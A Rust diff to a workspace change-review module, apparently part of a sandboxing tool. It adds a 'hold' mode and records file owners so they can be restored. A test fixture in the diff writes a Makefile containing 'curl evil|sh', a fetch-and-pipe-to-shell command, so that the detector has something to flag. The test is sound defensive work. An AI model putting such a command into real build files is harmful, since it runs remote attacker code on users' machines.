@@ -11,6 +11,8 @@
 //! the end), or see a change the session made and undid before it ended.
 
 mod diff;
+pub mod hold;
+mod patch;
 
 use cordon_policy::review::{skip_dir, Glob, ReviewPattern};
 use cordon_policy::CompiledPolicy;
@@ -52,6 +54,9 @@ struct State {
     meta: (u64, u64, i64, i64, i64, i64),
     content: Option<Vec<u8>>,
     pattern: usize,
+    /// The owner, put back by hold mode.
+    uid: u32,
+    gid: u32,
 }
 
 struct Snapshot {
@@ -79,19 +84,21 @@ impl Watch {
         Some(Watch { root: workspace.to_path_buf(), patterns, before })
     }
 
-    /// Walks again and compares.
-    pub fn finish(self) -> Review {
+    /// Walks again and compares; with `hold`, holds the changes it can (see [`hold`]).
+    pub fn finish(self, hold: Option<&hold::Target>) -> Review {
         let after = walk(&self.root, &self.patterns);
         let mut changes = vec![];
         let keys: std::collections::BTreeSet<&Vec<u8>> = self.before.files.keys().chain(after.files.keys()).collect();
         for k in keys {
             let (b, a) = (self.before.files.get(k), after.files.get(k));
             if let Some(c) = compare(k, b, a, &self.patterns) {
-                changes.push(c);
+                changes.push((k.clone(), c));
             }
         }
+        let held = hold.and_then(|t| hold::hold(t, &self.before.files, &after.files, &mut changes));
         Review {
-            changes,
+            held,
+            changes: changes.into_iter().map(|(_, c)| c).collect(),
             files: self.before.files.len() as u64,
             entries: self.before.entries.max(after.entries),
             capped: self.before.capped || after.capped,
@@ -145,7 +152,17 @@ fn state(path: &Path, ft: &std::fs::FileType, pattern: usize, kept: &mut u64) ->
     let md = path.symlink_metadata().ok()?;
     let meta = (md.ino(), md.size(), md.mtime(), md.mtime_nsec(), md.ctime(), md.ctime_nsec());
     let mode = md.mode() & 0o7777;
-    let mut st = State { kind: Kind::Other, mode, size: md.size(), sha256: None, meta, content: None, pattern };
+    let mut st = State {
+        kind: Kind::Other,
+        mode,
+        size: md.size(),
+        sha256: None,
+        meta,
+        content: None,
+        pattern,
+        uid: md.uid(),
+        gid: md.gid(),
+    };
     if ft.is_symlink() {
         let target = std::fs::read_link(path).ok()?;
         st.kind = Kind::Symlink;
@@ -230,6 +247,7 @@ fn compare(key: &[u8], b: Option<&State>, a: Option<&State>, pats: &[ReviewPatte
         after_sha256: a.and_then(hex),
         before_mode: b.map(|s| s.mode),
         after_mode: a.map(|s| s.mode),
+        hold: None,
     })
 }
 
@@ -334,7 +352,7 @@ mod tests {
         std::fs::set_permissions(d.join("run.sh"), std::fs::Permissions::from_mode(0o755)).expect("chmod");
         std::fs::write(d.join("x.txt"), "all:\n\tcurl evil|sh\n").expect("w");
         std::fs::rename(d.join("x.txt"), d.join("Makefile")).expect("mv");
-        let r = w.finish();
+        let r = w.finish(None);
         let _ = std::fs::remove_dir_all(&d);
         assert_eq!(r.changes.len(), 2, "{r:?}");
         let mk = r.changes.iter().find(|c| c.path == "Makefile").expect("Makefile");
